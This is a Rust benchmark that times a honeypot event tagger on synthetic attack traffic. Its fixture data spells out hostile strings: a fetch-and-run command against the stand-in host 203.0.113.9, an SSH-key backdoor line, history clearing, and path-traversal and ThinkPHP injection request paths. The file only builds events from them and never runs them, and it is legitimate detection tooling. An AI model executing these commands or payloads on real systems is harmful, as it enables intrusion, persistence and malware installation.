//! Tagging throughput on a realistic event mix, rules on vs. a no-op.
//!
//! `cargo run --release -p decnet-attack --example tag_bench [EVENTS]`
//!
//! The mix follows what a fleet records under attack: mostly connects,
//! disconnects and failed logins (brute force), then shell commands, web
//! requests and a few downloads; sources and sessions rotate so aggregate
//! and sequence state grows as it would.

use std::hint::black_box;
use std::time::Instant;

use chrono::{Duration, Utc};
use decnet_attack::{RuleHandle, RuleSet, Tagger};
use decnet_core::{Event, EventKind};
use uuid::Uuid;

const COMMANDS: &[&str] = &[
    "uname -a",
    "cd /tmp; wget http://203.0.113.9/bins.sh; chmod +x bins.sh; ./bins.sh",
    "cat /proc/cpuinfo | grep name | wc -l",
    "ls -la",
    "echo ssh-rsa AAAA >> ~/.ssh/authorized_keys",
    "ps aux | grep -v grep | grep xmrig",
    "history -c",
    "free -m",
];

const PATHS: &[&str] = &[
    "/",
    "/wp-login.php",
    "/.env",
    "/cgi-bin/.%2e/.%2e/etc/passwd",
    "/index.php?s=/Index/\\think\\app/invokefunction",
    "/favicon.ico",
];

fn mix(n: usize) -> Vec<Event> {
    let t0 = Utc::now();
    (0..n)
        .map(|i| {
            let src = format!("198.51.{}.{}", (i / 251) % 200, i % 251);
            let kind = match i % 20 {
                0..=5 => EventKind::Connect,
                6..=9 => EventKind::Disconnect,
                10..=14 => EventKind::AuthAttempt,
                15..=17 => EventKind::Command,
                18 => EventKind::Request,
                _ => EventKind::FileDownload,
            };
            let service = match kind {
                EventKind::Request => "http",
                _ => "ssh",
            };
            let mut e = Event::new(format!("decky-{}", i % 7), service, kind);
            e.ts = t0 + Duration::microseconds(i as i64 * 100);
            e.src_ip = src.parse().unwrap();
            e.dst_port = [22, 80, 443, 3306, 6379][i % 5];
            e.session_id = Some(Uuid::from_u128((i / 20) as u128));
            match kind {
                EventKind::AuthAttempt => {
                    e = e
                        .with("username", ["root", "admin", "ubuntu"][i % 3])
                        .with("secret_b64", format!("cGFzc3dvcmQ{}", i % 9))
                        .with("success", i % 97 == 0)
                }
                EventKind::Command => e = e.with("command", COMMANDS[i % COMMANDS.len()]),
                EventKind::Request => {
                    e = e
                        .with("path", PATHS[i % PATHS.len()])
                        .with("user_agent", "Mozilla/5.0 zgrab/0.x")
                        .with("method", "GET")
                }
                EventKind::FileDownload => e = e.with("url", "http://203.0.113.9/x86").with("tool", "wget"),
                _ => {}
            }
            e
        })
        .collect()
}

fn run(handle: RuleHandle, events: &[Event]) -> (f64, usize) {
    let mut tagger = Tagger::new(handle);
    let started = Instant::now();
    let mut tags = 0;
    for e in events {
        tags += black_box(tagger.process(e)).len();
    }
    (started.elapsed().as_secs_f64(), tags)
}

fn main() {
    let n: usize = std::env::args().nth(1).and_then(|a| a.parse().ok()).unwrap_or(1_000_000);
    let events = mix(n);
    let builtin = RuleHandle::builtin();
    let rules = builtin.current().rules().len();
    let empty = RuleHandle::from(RuleSet::from_rules(Vec::new()));
    // Warm up allocator and caches once.
    run(builtin.clone(), &events[..n.min(50_000)]);
    let (noop_s, _) = run(empty, &events);
    let (on_s, tags) = run(builtin, &events);
    let per_event_us = (on_s - noop_s).max(0.0) / n as f64 * 1e6;
    println!("events: {n}, rules: {rules}, tags: {tags}");
    println!("no-op tagger: {:>10.0} events/s", n as f64 / noop_s);
    println!("rules on:     {:>10.0} events/s ({:.2} µs/event)", n as f64 / on_s, on_s / n as f64 * 1e6);
    println!(
        "cost at 10k events/s: {:.1} % of one core",
        per_event_us * 10_000.0 / 1e6 * 100.0
    );
}
